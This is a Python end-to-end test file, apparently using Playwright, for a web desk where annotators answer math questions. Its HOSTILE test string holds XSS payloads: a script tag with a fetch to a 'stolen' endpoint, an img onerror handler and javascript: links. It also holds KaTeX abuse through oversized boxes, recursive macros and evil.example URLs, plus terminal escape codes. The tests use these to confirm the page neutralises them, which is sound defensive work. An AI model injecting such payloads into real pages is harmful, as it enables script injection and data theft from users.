"""The desk as two annotators meet it, each in a real browser."""

from __future__ import annotations

import json
import os
import signal
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from rlavr_hpc.labels.desk.access import Role
from tests.support.desk import answers, place, question
from tests.support.desk_process import RunningDesk, start_desk

SHOTS = os.environ.get("DESK_SCREENSHOTS")
"""Folder for pictures of the pages; unset = none are taken."""
HOSTILE = (
    "<script>document.title='owned'; fetch('http://127.0.0.1:9/stolen')</script>\n"
    "<img src=x onerror=\"document.title='owned'\"> \x1b[2J\x1b]0;owned\x07 \u202etxet desrever\n"
    r"Links: $\href{javascript:alert(1)}{x}$ $\url{https://evil.example}$ "
    r"$\includegraphics{https://evil.example/x.png}$ $\htmlStyle{position:fixed}{x}$"
    "\n"
    r"Boxes: $\rule{9999em}{9999em}$ $\kern{-9999em}\rule{50em}{5em}$ \[\raisebox{9999em}{x}\]"
    "\n"
    r"Loops: $\def\a{\a\a}\a$ $\def\b{\b}\b$ $" + "{" * 1500 + "}" * 1500 + "$\n"
    r"Errors: $\frac{1}$ $\undefined{<b>bold</b>}$ and \begin{align} <img src=x> \end{align}"
)
PLAIN = (
    "A jar holds $\\frac{3}{4}$ of a litre and costs $5; another costs $6. How many litres are "
    "in 8 jars?\n\n\\[ \\sum_{i=1}^{8} \\left(\\frac{3}{4}\\right) = \\; ? \\]"
)


@dataclass
class Annotator:
    """One person's browser, with all that it said and asked for."""

    name: str
    page: Page
    said: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    def answered(self) -> int:
        """How many the page counts."""
        return int(self.page.locator(".counts strong").first.inner_text())


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[RunningDesk]:
    """A desk with 20 questions, one of them hostile, in its text and in the model's answers."""
    orders = [question(f"{PLAIN} (jar {n})") for n in range(14)]
    orders += [question(f"{PLAIN} (choose {n})", clusters=("6", "\\frac{8}{3}")) for n in range(5)]
    orders.insert(
        3, question(HOSTILE, clusters=("<script>document.title='owned'</script>", HOSTILE))
    )
    place(tmp_path / "run", orders)
    running = start_desk(tmp_path)
    yield running
    running.end()


SignIn = Callable[..., Annotator]


@pytest.fixture
def sign_in(browser: Browser, desk: RunningDesk) -> Iterator[SignIn]:
    """Signs somebody in with the button: `sign_in("ada", width=390)`."""
    contexts = []

    def signing(
        name: str, *, width: int = 1280, role: Role = Role.annotator, scheme: str = "light"
    ) -> Annotator:
        context = browser.new_context(
            viewport={"width": width, "height": 844 if width < 500 else 900},
            color_scheme="dark" if scheme == "dark" else "light",
        )
        contexts.append(context)
        one = Annotator(name=name, page=context.new_page())
        one.page.on("console", lambda message: one.said.append(message.text))
        one.page.on("pageerror", lambda error: one.said.append(str(error)))
        one.page.on("request", lambda request: one.asked.append(request.url))
        one.page.goto(desk.link(name, role))
        picture(one, f"sign-in-{width}")
        one.page.get_by_role("button", name="Sign in").click()
        one.page.wait_for_url(f"{desk.address}owner" if role is Role.owner else desk.address)
        return one

    yield signing
    for context in contexts:
        context.close()


def picture(one: Annotator, name: str) -> None:
    """For people to look at."""
    if SHOTS:
        Path(SHOTS).mkdir(exist_ok=True)
        one.page.screenshot(path=f"{SHOTS}/{name}.png", full_page=True)


def keys_of(desk: RunningDesk) -> set[str]:
    lines = (desk.top / "run/labels/orders/1.jsonl").read_text().splitlines()
    return {json.loads(line)["key"] for line in lines}


def answer_one(one: Annotator, number: int, *, seen: list[str]) -> bool:
    """With the keyboard alone; False = there was no question."""
    page = one.page
    key = page.locator("input[name=key]")
    if not key.count():
        return False
    seen.append(key.get_attribute("value") or "")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert "owned" not in page.title()
    if page.locator("input[type=radio]").count():
        page.keyboard.press("Space")
    else:
        page.keyboard.type(str(number))
    with page.expect_navigation():
        page.keyboard.press("Enter")
    return True


def test_two_annotators_answer_twenty_questions_at_once_and_nothing_hostile_happens(
    desk: RunningDesk, sign_in: SignIn
) -> None:
    people = [sign_in("ada"), sign_in("bob", width=390)]
    seen: dict[str, list[str]] = {one.name: [] for one in people}
    number, going = 0, True
    while going and number < 40:
        going = False
        for one in people:
            number += 1
            going |= answer_one(one, number, seen=seen[one.name])
    for one in people:
        picture(one, f"nothing-{one.page.viewport_size['width']}")  # type: ignore[index]
        assert one.page.get_by_role("heading", name="No question for you now").is_visible()
        assert one.answered() == 10
        assert all(url.startswith((desk.address, "data:")) for url in one.asked)
        assert one.said == []
    desk.end()
    given = answers(desk.top / "run")
    assert set(seen["ada"]) & set(seen["bob"]) == set()
    assert set(given) == set(seen["ada"]) | set(seen["bob"]) == keys_of(desk)
    assert {key: one.annotator for key, one in given.items()} == {
        key: name for name, keys in seen.items() for key in keys
    }


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (390, "light"), (390, "dark")])
def test_a_hostile_text_stays_in_its_box(
    desk: RunningDesk, sign_in: SignIn, width: int, scheme: str
) -> None:
    ada = sign_in("ada", width=width, scheme=scheme)
    page = ada.page
    picture(ada, f"question-{width}-{scheme}")
    page.keyboard.type("6")
    page.locator("#reading .katex").wait_for()
    picture(ada, f"typed-{width}-{scheme}")
    while not page.locator("text=desrever").count():
        with page.expect_navigation():
            page.get_by_role("button", name="I cannot answer").click()
    picture(ada, f"hostile-{width}-{scheme}")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert (
        page.evaluate("document.querySelectorAll('#question a[href], #question img').length") == 0
    )
    assert page.evaluate("document.querySelectorAll('script:not([src])').length") == 0
    assert page.evaluate("document.documentElement.scrollHeight") < 4000
    box = page.locator(".passage").first.bounding_box()
    form = page.locator("#form").bounding_box()
    assert box is not None
    assert form is not None
    assert box["y"] + box["height"] <= form["y"]
    question_text = page.locator(".passage").first.inner_text()
    assert "<script>document.title='owned'" in question_text
    assert "[U+001B][2J" in question_text
    assert "<b>bold</b>" in question_text
    page.get_by_role("button", name="As written").click()
    assert r"$\def\a{\a\a}\a$" in page.locator(".passage").first.inner_text()
    assert ada.said == []
    while not page.locator("text=choose").count():
        with page.expect_navigation():
            page.get_by_role("button", name="I cannot answer").click()
    picture(ada, f"choices-{width}-{scheme}")


def test_formulas_are_drawn_and_prices_are_not(desk: RunningDesk, sign_in: SignIn) -> None:
    page = sign_in("ada").page
    assert page.locator("#question .katex").count() == 2
    assert page.locator("#question .katex-display").count() == 1
    assert "costs $5; another costs $6." in page.locator(".passage").inner_text()
    assert page.locator("#question .katex-mathml math").count() == 2


def test_an_answer_that_cannot_be_read_is_told_while_typing_and_when_sent(
    desk: RunningDesk, sign_in: SignIn
) -> None:
    ada = sign_in("ada", width=390)
    page = ada.page
    page.keyboard.type("nonsense")
    page.locator("#reading.bad").wait_for()
    page.keyboard.press("Enter")
    alert = page.get_by_role("alert")
    alert.wait_for()
    picture(ada, "refused-390")
    assert "finds no answer" in alert.inner_text()
    assert page.locator("#answer").input_value() == "nonsense"
    assert page.title().startswith("Error")
    page.locator("#answer").fill("6")
    with page.expect_navigation():
        page.keyboard.press("Enter")
    assert ada.answered() == 1


def test_the_last_answer_is_undone_with_the_keyboard(desk: RunningDesk, sign_in: SignIn) -> None:
    ada = sign_in("ada")
    page = ada.page
    key = page.locator("input[name=key]").get_attribute("value")
    page.keyboard.type("41")
    with page.expect_navigation():
        page.keyboard.press("Enter")
    picture(ada, "saved-1280")
    undo = page.get_by_role("button", name="Undo")
    for _ in range(20):
        if undo.evaluate("(n) => n === document.activeElement"):
            break
        page.keyboard.press("Shift+Tab")
    with page.expect_navigation():
        page.keyboard.press("Enter")
    assert page.locator("input[name=key]").get_attribute("value") == key
    assert page.locator("#answer").input_value() == "41"


def test_every_control_has_a_name_and_can_be_reached(desk: RunningDesk, sign_in: SignIn) -> None:
    page = sign_in("ada").page
    assert page.get_by_role("textbox", name="Your answer").count() == 1
    for name in ("Send answer", "I cannot answer", "As written", "Sign out"):
        assert page.get_by_role("button", name=name).count() == 1
    reached = set()
    for _ in range(30):
        page.keyboard.press("Tab")
        reached.add(page.evaluate("document.activeElement.textContent.trim()"))
    assert {"Send answer", "I cannot answer", "As written", "Sign out", "Add a remark"} <= reached


def test_a_killed_desk_goes_on_where_it_was_in_the_same_tabs(
    desk: RunningDesk, sign_in: SignIn
) -> None:
    ada = sign_in("ada")
    page = ada.page
    key = page.locator("input[name=key]").get_attribute("value")
    page.keyboard.type("6")
    with page.expect_navigation():
        page.keyboard.press("Enter")
    second = page.locator("input[name=key]").get_attribute("value")
    desk.end(signal.SIGKILL)
    assert answers(desk.top / "run") == {}
    again = start_desk(desk.top)
    assert again.address == desk.address
    page.keyboard.type("7")
    with page.expect_navigation():
        page.keyboard.press("Enter")
    third = page.locator("input[name=key]").get_attribute("value")
    again.end()
    assert len({key, second, third}) == 3
    found = {k: one.answer for k, one in answers(desk.top / "run").items()}
    assert found == {key: "6", second: "7"}


def test_the_owner_follows_the_runs(desk: RunningDesk, sign_in: SignIn) -> None:
    ada = sign_in("ada")
    for number in range(3):
        answer_one(ada, number, seen=[])
    for width in (1280, 390):
        owner = sign_in("owner", width=width, role=Role.owner)
        picture(owner, f"owner-{width}")
        assert owner.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert owner.page.locator("h1").inner_text() == "18 questions open"
        assert owner.page.get_by_role("row", name="ada").count() == 1
        assert owner.said == []


def test_a_page_without_a_question_finds_a_new_one_by_itself(
    desk: RunningDesk, sign_in: SignIn
) -> None:
    ada = sign_in("ada")
    while answer_one(ada, 6, seen=[]):
        pass
    ada.page.evaluate("setInterval(look, 300)")
    place(desk.top / "run", [question("One more: $1+1$?")], attempt=2)
    heading = ada.page.get_by_role("heading", name="Question 21")
    heading.wait_for(timeout=60_000)
    assert heading.count() == 1
    assert ada.said == []
